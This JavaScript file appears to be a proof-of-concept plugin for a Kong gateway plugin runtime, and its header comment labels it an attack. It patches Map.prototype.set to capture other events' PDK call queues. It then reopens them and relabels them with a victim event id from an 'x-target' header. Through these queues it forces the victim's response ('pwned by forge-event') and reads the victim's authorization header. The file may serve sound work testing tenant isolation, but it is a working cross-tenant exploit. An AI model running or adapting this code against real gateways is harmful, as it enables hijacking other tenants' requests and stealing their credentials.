// Attack: send PDK calls as part of another tenant's request. The runtime keeps one queue object per
// event in a Map; wrapping Map.prototype.set (in the module body, before any event) captures them. In a
// later event the attacker takes a finished queue, reopens it, renames it to the victim's event id
// (read from a header) and calls kong.response.exit and kong.request.get_header through it.
const captured = [];
const set = Map.prototype.set;
Map.prototype.set = function (k, v) {
  if (v && typeof v === 'object' && typeof v.call === 'function' && 'closed' in v) captured.push(v);
  return set.call(this, k, v);
};

class Plugin {
  async access(kong) {
    const target = Number(await kong.request.getHeader('x-target'));
    const got = { captured: captured.length, forged: [] };
    if (target) {
      for (const q of captured.slice(0, -1)) {
        try {
          q.closed = false;
          q.id = target;
          void q.call('kong.response.exit', [200, 'pwned by forge-event']).catch(() => {});
          void q.call('kong.request.get_header', ['authorization']).catch(() => {});
          got.forged.push(q.id);
        } catch (e) {
          got.forged.push(`${e.name}: ${e.message}`);
        }
      }
    }
    await kong.response.setHeader('x-got', JSON.stringify(got));
  }
}
module.exports = { Plugin, Version: '1.0.0', Priority: 1 };
